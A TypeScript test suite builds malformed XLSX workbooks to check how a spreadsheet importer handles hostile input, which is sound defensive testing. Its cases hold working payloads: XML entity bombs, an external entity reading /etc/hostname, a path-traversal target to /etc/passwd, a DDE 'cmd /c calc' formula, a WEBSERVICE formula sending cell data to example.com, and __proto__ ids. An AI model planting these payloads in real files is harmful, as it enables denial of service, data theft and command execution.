import { type Case, type Row, workbooks } from "./case";
import { edited, part, partNames, unitFile } from "./unitFile";

const { collective, individual, record, strings, workbook, links, types } = partNames;
const bad: readonly string[] = ["damaged", "unrelated"];
const main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
const office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const sheetXml = part(collective);
const body = sheetXml.replace(/^<\?xml[^>]*\?>\s*/, "");
const declared = (encoding: string): string => `<?xml version="1.0" encoding="${encoding}"?>${body}`;
const bytesOf = (text: string): Uint8Array => new TextEncoder().encode(text);
const noise = (length: number): string => Array.from({ length: Math.ceil(length / 6) }, (_, at) => (Math.imul(at + 11, 2246822519) >>> 0).toString(36)).join("").slice(0, length);
const utf16 = (text: string, big: boolean, mark: boolean): Uint8Array => {
  const buffer = Buffer.from((mark ? "\ufeff" : "") + text, "utf16le");
  return new Uint8Array(big ? buffer.swap16() : buffer);
};
const utf32 = (text: string, mark: boolean): Uint8Array => {
  const codes = [...(mark ? "\ufeff" : ""), ...text].map((letter) => letter.codePointAt(0) ?? 0);
  return new Uint8Array(Uint32Array.from(codes).buffer);
};
const latin = (text: string): Uint8Array => new Uint8Array(Buffer.from(text, "latin1"));
/** What stands in the first mark of the collective sheet, E9. */
const mark = (cell: string): Uint8Array => edited(collective, /<c r="E9"[^>]*>.*?<\/c>/, cell);
const value = (text: string): Uint8Array => edited(collective, /(?<=<c r="E9"[^>]*>)<v>[^<]*<\/v>/, `<v>${text}</v>`);
const before = (xml: string): Uint8Array => unitFile({ [collective]: body.replace("<sheetData>", `${xml}<sheetData>`) });
const sheet = (data: string | Uint8Array): Uint8Array => unitFile({ [collective]: data });
const laughs = `<!DOCTYPE w [<!ENTITY a0 "ha">${Array.from({ length: 30 }, (_, at) => `<!ENTITY a${at + 1} "&a${at};&a${at};&a${at};&a${at};">`).join("")}]>`;

const rows: readonly Row[] = [
  ["a billion laughs", () => sheet(laughs + body.replace("<sheetData>", "<sheetData>&a30;")), bad],
  ["quadratic entity", () => sheet(`<!DOCTYPE w [<!ENTITY a "${"a".repeat(100_000)}">]>${body.replace("</sheetData>", `${"&a;".repeat(100_000)}</sheetData>`)}`), bad],
  ["entity of a file", () => unitFile({ [strings]: `<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/hostname">]>${part(strings).replace(/<\?xml.*?\?>/, "").replace("<t>", "<t>&x;")}` }), bad],
  ["entity of an address", () => unitFile({ [workbook]: `<!DOCTYPE w SYSTEM "http://example.com/x.dtd">${part(workbook).replace(/<\?xml.*?\?>/, "")}` }), bad],
  ["parameter entity", () => unitFile({ [types]: `<!DOCTYPE w [<!ENTITY % x SYSTEM "http://example.com/x">%x;]>${part(types).replace(/<\?xml.*?\?>/, "")}` }), bad],
  ["DOCTYPE without end", () => sheet(`<!DOCTYPE w [${"<!ENTITY a 'b'>".repeat(10_000)}`), bad],
  ["DOCTYPE in small letters", () => sheet(`<!doctype html>${body}`), bad],
  ["200 000 elements deep", () => before("<a>".repeat(200_000)), bad],
  ["31 elements deep, closed", () => before("<x>".repeat(29) + "</x>".repeat(29))],
  ["65 attributes", () => before(`<x ${Array.from({ length: 65 }, (_, at) => `a${at}="1"`).join(" ")}/>`), bad],
  ["a million attributes", () => before(`<x ${Array.from({ length: 1_000_000 }, (_, at) => `a${at}=""`).join(" ")}/>`), bad],
  ["an attribute of 5 MB", () => before(`<x a="${noise(5_000_000)}"/>`)],
  ["an attribute name of 5 MB", () => before(`<x a${noise(5_000_000)}="1"/>`)],
  ["an element name of 5 MB", () => before(`<a${noise(5_000_000)}/>`)],
  ["a prefix of 5 MB", () => before(`<a${noise(5_000_000)}:b/>`)],
  ["a namespace of 5 MB", () => before(`<a:b xmlns:a="${noise(5_000_000)}"/>`)],
  ["an attribute without end", () => sheet(body.slice(0, 400) + `<x a="${noise(3_000_000)}`), bad],
  ["a tag without end", () => sheet(body.slice(0, body.indexOf("<sheetData>")) + `<x ${" ".repeat(200_000)}${noise(2_000_000)}`), bad],
  ["white space of 8 MB inside a tag", () => before(`<x${" \n\t\r".repeat(20_000)}${noise(1000)}="1"${" ".repeat(400_000)}/>`)],
  ["a comment of 10 MB", () => before(`<!--${noise(10_000_000)}-->`), "damaged"],
  ["a comment without end", () => sheet(body.replace("<sheetData>", `<!--${noise(3_000_000)}`)), bad],
  ["two hyphens in a comment", () => before("<!-- a -- b -->")],
  ["an instruction of 10 MB", () => before(`<?x ${noise(10_000_000)}?>`)],
  ["an instruction without end", () => sheet(`<?x ${noise(3_000_000)}`), bad],
  ["a CDATA section of 10 MB", () => before(`<x><![CDATA[${noise(10_000_000)}]]></x>`)],
  ["a CDATA section without end", () => sheet(body.replace("<sheetData>", `<![CDATA[${noise(3_000_000)}`)), bad],
  ["400 000 comments", () => before("<!---->".repeat(400_000))],
  ["300 000 CDATA sections in one cell", () => mark(`<c r="E9" t="str"><v>${"<![CDATA[8]]>".repeat(300_000)}</v></c>`)],
  ["600 000 character references", () => mark(`<c r="E9" t="str"><v>${"&#56;".repeat(600_000)}</v></c>`)],
  ["2 000 000 carriage returns", () => before("\r\n".repeat(1_000_000))],
  ["]]> in text", () => before("]]>")],
  ["a less-than sign in an attribute", () => before('<x a="<"/>'), bad],
  ["an attribute without quotes", () => before("<x a=1/>"), bad],
  ["attributes without a space between", () => before('<x a="1"b="2"/>'), bad],
  ["a reference without end", () => value("&amp"), bad],
  ["a reference to a lone surrogate", () => mark('<c r="E9" t="str"><v>&#xD800;</v></c>'), bad],
  ["references to two surrogates", () => mark('<c r="E9" t="str"><v>&#xD83D;&#xDE00;</v></c>'), bad],
  ["a reference beyond Unicode", () => mark('<c r="E9" t="str"><v>&#x110000;</v></c>'), bad],
  ["a reference of 100 000 digits", () => mark(`<c r="E9" t="str"><v>&#${"0".repeat(100_000)}56;</v></c>`)],
  ["a negative reference", () => mark('<c r="E9" t="str"><v>&#-1;</v></c>'), bad],
  ["a reference to nothing", () => mark('<c r="E9" t="str"><v>&;&#;&#x;</v></c>'), bad],
  ["_xD800_ in a text", () => mark('<c r="E9" t="inlineStr"><is><t>8_xD800_</t></is></c>')],
  ["_x0000_ in a text", () => mark('<c r="E9" t="inlineStr"><is><t>_x0000_8</t></is></c>')],
  ["NUL in the part", () => sheet(body.replace("<sheetData>", "\u0000<sheetData>")), bad],
  ["NULs only", () => sheet(new Uint8Array(5000)), bad],
  ["U+FFFE in a text", () => mark('<c r="E9" t="str"><v>8\ufffe</v></c>')],
  ["a byte order mark in the middle", () => before("\ufeff")],
  ["two byte order marks", () => sheet(`\ufeff\ufeff${body}`)],
  ["overlong UTF-8", () => sheet(latin(body.replace("<sheetData>", "<x>\xc0\xaf\xc0\x80</x><sheetData>").replace(/[^\x00-\xff]/g, "?"))), bad],
  ["UTF-8 of surrogates", () => sheet(latin(body.replace("<sheetData>", "<x>\xed\xa0\xbd\xed\xb8\x80</x><sheetData>").replace(/[^\x00-\xff]/g, "?"))), bad],
  ["UTF-8 cut inside a letter", () => sheet(bytesOf(`${body}<!--Đ`).subarray(0, -1)), bad],
  ["a letter of five bytes", () => sheet(latin(body.replace("<sheetData>", "<x>\xf8\x88\x80\x80\x80</x><sheetData>").replace(/[^\x00-\xff]/g, "?"))), bad],
  ["Latin letters without saying so", () => unitFile({ [strings]: latin(part(strings).replace(/[^\x00-\xff]/g, "é")) }), bad],
  ["UTF-16 with a mark, small end", () => sheet(utf16(declared("UTF-16"), false, true)), "accepted"],
  ["UTF-16 with a mark, big end", () => sheet(utf16(declared("UTF-16"), true, true)), "accepted"],
  ["UTF-16 without a mark, small end", () => sheet(utf16(declared("UTF-16"), false, false))],
  ["UTF-16 without a mark, big end", () => sheet(utf16(declared("UTF-16"), true, false))],
  ["UTF-16 of an odd length", () => sheet(utf16(declared("UTF-16"), false, true).subarray(0, -1)), bad],
  ["UTF-16 with a lone surrogate", () => sheet(utf16(body.replace("<sheetData>", "<x>\ud800</x><sheetData>"), false, true)), bad],
  ["UTF-16 called UTF-8", () => sheet(utf16(declared("UTF-8"), false, true))],
  ["UTF-8 called UTF-16", () => sheet(declared("UTF-16"))],
  ["UTF-32 with a mark", () => sheet(utf32(declared("UTF-32"), true)), bad],
  ["UTF-32 without a mark", () => sheet(utf32(declared("UTF-32"), false)), bad],
  ...["windows-1252", "utf-7", "ebcdic-cp-us", "x-user-defined", "", "UTF-8\" foo=\"", "TCVN", "us-ascii", "utf8", "Utf-8"].map((encoding): Row => [`encoding “${encoding}”`, () => sheet(declared(encoding))]),
  ["XML 1.1", () => sheet(`<?xml version="1.1"?>${body}`)],
  ["the declaration after white space", () => sheet(`\n<?xml version="1.0"?>${body}`)],
  ["all parts with prefixed names", () => sheet(prefixed(body)), "accepted"],
  ["strict namespaces throughout", () => unitFile(Object.fromEntries([workbook, links, collective, individual, record, strings, "_rels/.rels", "xl/styles.xml", "xl/worksheets/sheet1.xml"].map((name) => [name, strictly(part(name))]))), "accepted"],
  ["alternate content around a cell", () => mark(`<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice Requires="x"><c r="E9"><v>1</v></c></mc:Choice><mc:Fallback><c r="E9"><v>2</v></c></mc:Fallback></mc:AlternateContent>`)],
  ["rows in another vocabulary", () => before('<sheetData xmlns="urn:x"><row r="1"><c r="E9"><v>1</v></c></row></sheetData>'), "accepted"],
  ["references to rows and cells left out", () => unitFile({ [record]: part(record).replace(/ r="[A-Z]*\d+"/g, "") }), "accepted"],
  ["inline text instead of shared", () => mark('<c r="E9" t="inlineStr"><is><t>8,5</t></is></c>'), "accepted", "input.text-number"],
  ["inline text of 40 000 runs", () => mark(`<c r="E9" t="inlineStr"><is>${"<r><t>8</t></r>".repeat(40_000)}</is></c>`), bad],
  ["absolute targets", () => unitFile({ [links]: part(links).replaceAll('Target="', 'Target="/xl/') }), "accepted"],
  ["targets with percent signs", () => unitFile({ [links]: part(links).replaceAll("worksheets/sheet", "worksheets/%73heet") })],
  ["a target outside", () => edited(links, "worksheets/sheet2.xml", "../../../../etc/passwd"), bad],
  ["a target on the internet", () => edited(links, 'Target="worksheets/sheet2.xml"', 'Target="https://example.com/a.xml" TargetMode="External"'), bad],
  ["a target that is a share", () => edited(links, 'Target="worksheets/sheet2.xml"', 'Target="\\\\host\\x\\a.xml"'), bad],
  ["a target that is the workbook", () => edited(links, "worksheets/sheet2.xml", "workbook.xml"), bad],
  ["a target that is its own relationships", () => edited(links, "worksheets/sheet2.xml", "_rels/workbook.xml.rels"), bad],
  ["all sheets are one part", () => unitFile({ [links]: part(links).replace(/worksheets\/sheet\d/g, "worksheets/sheet2") })],
  ["relationships that lead in a circle", () => unitFile({ "_rels/.rels": part("_rels/.rels").replace("xl/workbook.xml", "_rels/.rels") }), bad],
  ["relationships of relationships", () => unitFile({ "xl/_rels/_rels/workbook.xml.rels.rels": part(links), "xl/worksheets/_rels/sheet2.xml.rels": part(links).replaceAll("worksheets/", "").replaceAll('Target="', 'Target="../') })],
  ["two relationships of one id", () => edited(links, 'Id="rId3"', 'Id="rId2"')],
  ["ids named __proto__", () => unitFile({ [links]: part(links).replaceAll('"rId2"', '"__proto__"'), [workbook]: part(workbook).replaceAll('"rId2"', '"__proto__"') }), "accepted"],
  ["ids named constructor, toString, hasOwnProperty", () => unitFile({ [workbook]: part(workbook).replaceAll('"rId2"', '"constructor"').replaceAll('"rId3"', '"toString"') }), bad],
  ["a sheet's part missing", () => unitFile({ [individual]: undefined }), bad],
  ["shared strings missing", () => unitFile({ [strings]: undefined }), bad],
  ["styles missing", () => unitFile({ "xl/styles.xml": undefined }), bad],
  ["theme and properties missing", () => unitFile({ "xl/theme/theme1.xml": undefined, "docProps/core.xml": undefined, "docProps/app.xml": undefined }), "accepted"],
  ["theme that is rubbish", () => unitFile({ "xl/theme/theme1.xml": "\u0000<<<" }), "accepted"],
  ["the record missing", () => unitFile({ [workbook]: part(workbook).replace(/<sheet name="_phieu"[^>]*>/, "") }), "unrelated", "return.no-record"],
  ["content types empty", () => unitFile({ [types]: "" }), bad],
  ["content types missing", () => unitFile({ [types]: undefined }), bad],
  ["content type of a picture", () => unitFile({ [types]: part(types).replace(/application\/vnd[^"]*sheet\.main\+xml/, "image/png") }), bad],
  ["content type of a template", () => unitFile({ [types]: part(types).replace("sheet.main+xml", "template.main+xml") }), "accepted"],
  ["content types in capitals", () => unitFile({ [types]: part(types).replace(/application\/vnd[^"]*sheet\.main\+xml/, (type) => type.toUpperCase()) }), "accepted"],
  ["part names in other case", () => unitFile({ [links]: part(links).replaceAll("worksheets/sheet", "WorkSheets/Sheet") }), "accepted"],
  ["an empty sheet part", () => sheet(""), bad],
  ["a sheet part of one letter", () => sheet("<"), bad],
  ["html in a sheet part", () => sheet("<html><script>alert(1)</script></html>"), bad],
  ["a sheet without data", () => sheet(`<worksheet xmlns="${main}"/>`), "altered"],
  ["a sheet that is a chart sheet", () => sheet(`<chartsheet xmlns="${main}"/>`), bad],
  ["a relationship that says chart sheet", () => edited(links, `${office}/worksheet" Target="worksheets/sheet2.xml`, `${office}/chartsheet" Target="worksheets/sheet2.xml`), "altered"],
  ["two sheetData", () => sheet(body.replace("</sheetData>", "</sheetData><sheetData/>")), bad],
  ["rows after the data", () => sheet(body.replace("</sheetData>", '</sheetData><row r="90"><c r="E90"><v>1</v></c></row>'))],
];

const numbers: readonly Row[] = [
  ...["1,5", "0x1F", "1e400", "NaN", "INF", "-INF", "1_0", "８", "٣", "८", "1/2", "1 000", "--8", "8.5.1", "8e", "e8", "0b11", "0o7", "8n", "true", "८.५", "1\u00a0", "8%", "=8", "", " ", "+", "-", ".", "8..", "Infinity", "null", "undefined", "[object Object]"].map((text): Row => [`number “${text}”`, () => value(text)]),
  ...["8.", ".5", "+8", "-0", "8e0", "80e-1", " 8 ", "\n8\t", "0008.50", "8.5000000000000000000000000001", "1e-400", "4.9e-324", "1.7976931348623157e308", "9007199254740993", "0.1e1", "8E+0"].map((text): Row => [`number “${text.trim() === text ? text : JSON.stringify(text)}”`, () => value(text), "accepted"]),
  ["a number of a million digits", () => value("8".repeat(1_000_000))],
  ["a number of a million zeros behind the point", () => value(`8.${"0".repeat(1_000_000)}`)],
  ["a number in white space of 2 MB", () => value(`${" ".repeat(1_000_000)}8${"\n".repeat(1_000_000)}`)],
  ["a boolean as a mark", () => mark('<c r="E9" t="b"><v>1</v></c>'), "accepted", "input.text"],
  ["an error as a mark", () => mark('<c r="E9" t="e"><v>#REF!</v></c>'), "accepted", "input.text"],
  ["an error with markup", () => mark('<c r="E9" t="e"><v>&lt;script&gt;</v></c>'), bad],
  ["a date as text", () => mark('<c r="E9" t="d"><v>2026-05-08</v></c>'), "accepted", "input.date"],
  ["a shared string of index 99999999", () => mark('<c r="E9" t="s"><v>99999999</v></c>'), bad],
  ["a shared string of index 1e0", () => mark('<c r="E9" t="s"><v>1e0</v></c>'), bad],
  ["a shared string of index __proto__", () => mark('<c r="E9" t="s"><v>__proto__</v></c>'), bad],
  ["a formula with a command", () => mark(`<c r="E9"><f>cmd|'/c calc'!A0</f><v>8</v></c>`), "accepted", "input.formula"],
  ["a formula fetching an address", () => mark('<c r="E9" t="str"><f>WEBSERVICE("https://example.com/?"&amp;A1)</f><v>8</v></c>'), "accepted", "input.formula-unread"],
  ["a formula of another book", () => mark("<c r=\"E9\"><f>'[1]Sheet1'!A1</f><v>8</v></c>"), "accepted", "input.formula"],
  ["a formula never computed", () => mark('<c r="E9"><f>4+4</f></c>'), "accepted", "input.formula-unread"],
  ["a text that begins like a formula", () => mark('<c r="E9" t="inlineStr"><is><t>=HYPERLINK("http://example.com","8")</t></is></c>'), "accepted", "input.text"],
  ["a data table", () => mark('<c r="E9"><f t="dataTable" ref="E9:E10" dt2D="1" r1="A1" r2="A2"/><v>8</v></c>'), "accepted"],
  ["an array formula", () => mark('<c r="E9"><f t="array" ref="A1:XFD1048576">A1:A9</f><v>8</v></c>'), "accepted", "input.formula"],
  ["1904 dates", () => unitFile({ [workbook]: part(workbook).replace("<workbookPr/>", '<workbookPr date1904="1"/>') }), "accepted"],
  ["1904 dates and a date as a mark", () => unitFile({ [workbook]: part(workbook).replace("<workbookPr/>", '<workbookPr date1904="1"/>'), ...dated(44_688) }), "accepted"],
  ["a date as a mark", () => unitFile(dated(46_150)), "accepted", "input.date"],
  ["a date before 1900", () => unitFile(dated(-3)), "accepted"],
  ["a date after 9999", () => unitFile(dated(9e15)), "accepted"],
];

/** The first mark shown as a date. */
function dated(serial: number): Record<string, string> {
  const styles = part("xl/styles.xml");
  const count = [...(/<cellXfs[^>]*>(.*?)<\/cellXfs>/s.exec(styles)?.[1] ?? "").matchAll(/<xf /g)].length;
  return {
    "xl/styles.xml": styles.replace("</cellXfs>", '<xf numFmtId="14" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/></cellXfs>'),
    [collective]: sheetXml.replace(/<c r="E9"[^>]*>.*?<\/c>/, `<c r="E9" s="${count}"><v>${serial}</v></c>`),
  };
}

function prefixed(xml: string): string {
  return xml.replace(/<(\/?)([a-zA-Z])/g, "<$1x:$2").replace(`xmlns="${main}"`, `xmlns:x="${main}"`);
}

function strictly(xml: string): string {
  return xml.replaceAll(main, "http://purl.oclc.org/ooxml/spreadsheetml/main").replaceAll(office, "http://purl.oclc.org/ooxml/officeDocument/relationships");
}

export const xmlCases: readonly Case[] = [...workbooks("xml", rows), ...workbooks("value", numbers)];
